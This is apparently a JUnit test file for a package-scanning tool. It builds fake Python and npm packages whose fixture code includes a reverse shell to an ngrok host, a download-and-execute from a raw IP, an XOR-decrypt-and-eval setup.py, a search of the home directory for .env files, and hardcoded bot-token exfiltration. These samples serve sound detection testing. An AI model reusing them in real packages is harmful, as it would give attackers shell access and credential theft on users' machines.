package dev.airlock.analysis;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Payloads that hide in library code rather than install scripts, each next to a benign look-alike. */
class LibraryPayloadRulesTest {
    @TempDir
    Path dir;

    private final Analyzer analyzer = Analyzer.staticOnly();

    private static Set<String> rules(AnalysisResult r) {
        return r.findings().stream().map(Finding::rule).collect(Collectors.toSet());
    }

    private AnalysisResult wheel(String path, String code) throws Exception {
        Path whl = Fixtures.wheel(dir, "demo-" + System.nanoTime(), Fixtures.files(
                "demo-1.0.dist-info/METADATA", Fixtures.pkgInfo("demo", "1.0"),
                "demo/__init__.py", "from .core import *\n",
                path, code));
        return analyzer.analyzeStatic(whl, null);
    }

    @Test
    void quarantinesExecHiddenInATupleAssignmentOfBuiltins() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "from builtins import *\n"
                + "Alpha, Beta, _gamma = exec, str, tuple\n"
                + "class _k:\n    def __init__(self, s):\n        Alpha(Beta(s))\n");
        assertTrue(rules(r).contains("builtin_tuple_aliasing"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void aFunctionReturningExecWithItsArgumentsIsNotTupleAliasing() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "def reducer(code):\n    return exec, (code,)\n"
                + "first, second = str, tuple\n");
        assertFalse(rules(r).contains("builtin_tuple_aliasing"), r.findings().toString());
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void quarantinesLibraryCodeThatDecryptsCharacterByCharacterAndExecutes() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "def style(text):\n    return text\n\n"
                + "def _load(data, key):\n    out = ''\n    for a, b in zip(data, key):\n"
                + "        out += chr(ord(a) ^ ord(b))\n    eval(compile(out, '<string>', 'exec'))\n");
        assertTrue(rules(r).contains("obfuscated_code_execution"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void blocksASetupPyThatDecryptsCharacterByCharacterAndExecutes() throws Exception {
        Path sdist = Fixtures.sdist(dir, "demo-1.0", Fixtures.files(
                "PKG-INFO", Fixtures.pkgInfo("demo", "1.0"),
                "setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\n"
                        + "class I(install):\n    def run(self):\n        s = ''\n"
                        + "        for a, b in zip('xy', 'ab'):\n            s += chr(ord(a) ^ ord(b))\n"
                        + "        eval(compile(s, '<string>', 'exec'))\n"
                        + "setup(name='demo', cmdclass={'install': I})\n"));
        AnalysisResult r = analyzer.analyzeStatic(sdist, null);
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void aCaesarCipherNextToATemplateEngineThatExecsReadFilesStaysClean() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "def rot(s, k):\n    return ''.join(chr(ord(c) + k) for c in s)\n\n"
                + "def run_file(path, ns):\n    exec(open(path).read(), ns)\n");
        assertFalse(rules(r).contains("obfuscated_code_execution"), r.findings().toString());
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void quarantinesAnExfiltrationEndpointInAFileThatAlsoRunsProgramsAndUsesTheNetwork() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "import socket, subprocess, os\n"
                + "def connect():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                + "    s.connect(('0.tcp.ngrok.io', 10000))\n    os.dup2(s.fileno(), 0)\n"
                + "    subprocess.call(['/bin/sh', '-i'])\n");
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
        assertTrue(rules(r).containsAll(Set.of("exfiltration_endpoint", "network_access", "process_execution")));
    }

    @Test
    void aLibraryThatLooksUpItsPublicIpAndRunsGitIsNotFlaggedWhenTheyLiveInDifferentFiles() throws Exception {
        Path whl = Fixtures.wheel(dir, "demo-1.0", Fixtures.files(
                "demo-1.0.dist-info/METADATA", Fixtures.pkgInfo("demo", "1.0"),
                "demo/__init__.py", "\n",
                "demo/net_util.py", "import requests\ndef external_ip():\n"
                        + "    return requests.get('https://checkip.amazonaws.com', timeout=5).text\n",
                "demo/git_util.py", "import subprocess\ndef head():\n"
                        + "    return subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n"));
        AnalysisResult r = analyzer.analyzeStatic(whl, null);
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void quarantinesLibraryCodeThatShipsItsOwnBotTokenNextToTheBotApi() throws Exception {
        String token = "123456789:AA" + "b".repeat(33);
        AnalysisResult r = wheel("demo/core.py", "import requests\ndef initialize():\n"
                + "    TOKEN = '" + token + "'\n"
                + "    requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', json={'chat_id': 1, 'text': 'x'})\n");
        assertTrue(rules(r).contains("embedded_exfiltration_credential"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void aBotClientThatTakesTheTokenFromItsCallerStaysClean() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "import requests\nAPI = 'https://api.telegram.org/bot'\n"
                + "class Notifier:\n    def __init__(self, token, chat_id):\n        self.token, self.chat_id = token, chat_id\n"
                + "    def send(self, text):\n"
                + "        requests.post(API + self.token + '/sendMessage', json={'chat_id': self.chat_id, 'text': text})\n");
        assertFalse(rules(r).contains("embedded_exfiltration_credential"), r.findings().toString());
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void quarantinesALibraryFunctionThatFetchesFromARawIpAndRunsWhatItGot() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "import requests, os\n"
                + "def execute():\n    data = requests.get('http://100.128.0.9/payload').content\n"
                + "    open('p', 'wb').write(data)\n    os.system('chmod +x p && ./p &')\n");
        assertTrue(rules(r).contains("raw_ip_endpoint"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void aRawIpInATestOfAnHttpClientThatRunsNoProgramsStaysClean() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "import requests\n"
                + "def probe():\n    return requests.get('http://100.128.0.9/health', timeout=2).ok\n");
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void blocksASetupPyThatSearchesTheHomeDirectoryForDotenvFiles() throws Exception {
        Path sdist = Fixtures.sdist(dir, "demo-1.0", Fixtures.files(
                "PKG-INFO", Fixtures.pkgInfo("demo", "1.0"),
                "setup.py", "import subprocess\nfrom pathlib import Path\nfrom setuptools import setup\n"
                        + "home = str(Path.home())\n"
                        + "found = subprocess.run(f'find {home} -type f -name *.env'.split(' '), capture_output=True)\n"
                        + "setup(name='demo')\n"));
        AnalysisResult r = analyzer.analyzeStatic(sdist, null);
        assertTrue(rules(r).contains("credential_file_access"), r.findings().toString());
        assertEquals(Recommendation.MALICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void aSetupPyThatListsItsOwnEnvironmentFilesIsNotCredentialAccess() throws Exception {
        Path sdist = Fixtures.sdist(dir, "demo-1.0", Fixtures.files(
                "PKG-INFO", Fixtures.pkgInfo("demo", "1.0"),
                "setup.py", "import subprocess\nfrom setuptools import setup\n"
                        + "subprocess.run(['git', 'ls-files', 'environment.yml'])\n"
                        + "setup(name='demo', data_files=[('envs', ['conda.env.yml'])])\n"));
        AnalysisResult r = analyzer.analyzeStatic(sdist, null);
        assertFalse(rules(r).contains("credential_file_access"), r.findings().toString());
        assertFalse(r.recommendation() == Recommendation.MALICIOUS, r.findings().toString());
    }

    @Test
    void quarantinesARequestWhoseAddressIsDecodedFromBase64() throws Exception {
        String hidden = java.util.Base64.getEncoder().encodeToString("https://collector.invalid/".getBytes());
        AnalysisResult r = wheel("demo/core.py", "import base64, requests\nSIGN_KEY = '" + hidden + "'\n"
                + "def sign(key):\n    requests.get(base64.b64decode(SIGN_KEY) + key)\n    return key\n");
        assertTrue(rules(r).contains("hidden_network_destination"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void aRequestThatUploadsDecodedContentToANamedServerStaysClean() throws Exception {
        AnalysisResult r = wheel("demo/core.py", "import base64, requests\n"
                + "def upload(blob):\n    return requests.post('https://api.example.org/files', data=base64.b64decode(blob))\n");
        assertFalse(rules(r).contains("hidden_network_destination"), r.findings().toString());
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void quarantinesAFileThatKeepsItsUploadAddressAsABase64Constant() throws Exception {
        String hidden = java.util.Base64.getEncoder().encodeToString("http://collector.invalid/upload".getBytes());
        AnalysisResult r = wheel("demo/core.py", "import base64, aiohttp\nUPLOAD = '" + hidden + "'\n"
                + "async def send(data):\n    target = base64.b64decode(UPLOAD).decode()\n"
                + "    async with aiohttp.ClientSession() as s:\n        await s.post(target, data=data)\n");
        assertTrue(rules(r).contains("hidden_network_destination"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void aBase64ConstantThatIsNotAnAddressNextToNetworkCodeStaysClean() throws Exception {
        String blob = java.util.Base64.getEncoder().encodeToString("just some icon bytes, not a link".getBytes());
        AnalysisResult r = wheel("demo/core.py", "import requests\nICON = '" + blob + "'\n"
                + "def fetch(url):\n    return requests.get(url, timeout=5)\n");
        assertFalse(rules(r).contains("hidden_network_destination"), r.findings().toString());
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }

    @Test
    void quarantinesAnNpmLibraryThatBuildsADiscordWebhookClientWithItsOwnIdAndToken() throws Exception {
        Path tgz = Fixtures.npm(dir, "demo", Fixtures.files(
                "package.json", Fixtures.packageJson("demo", "1.0.0", ""),
                "build/lib.js", "const discord = require('discord.js');\n"
                        + "class Lib {\n  async run(data) {\n"
                        + "    const client = new discord.WebhookClient('" + "1".repeat(18) + "', '" + "t".repeat(68) + "');\n"
                        + "    await client.send(data);\n  }\n}\nexports.Lib = Lib;\n"));
        AnalysisResult r = analyzer.analyzeStatic(tgz, null);
        assertTrue(rules(r).contains("embedded_exfiltration_credential"), r.findings().toString());
        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
    }

    @Test
    void anNpmLibraryThatBuildsAWebhookClientFromItsCallersSettingsStaysClean() throws Exception {
        Path tgz = Fixtures.npm(dir, "demo", Fixtures.files(
                "package.json", Fixtures.packageJson("demo", "1.0.0", ""),
                "index.js", "const { WebhookClient } = require('discord.js');\n"
                        + "module.exports = (opts) => new WebhookClient(opts.id, opts.token);\n"));
        AnalysisResult r = analyzer.analyzeStatic(tgz, null);
        assertFalse(rules(r).contains("embedded_exfiltration_credential"), r.findings().toString());
        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
    }
}
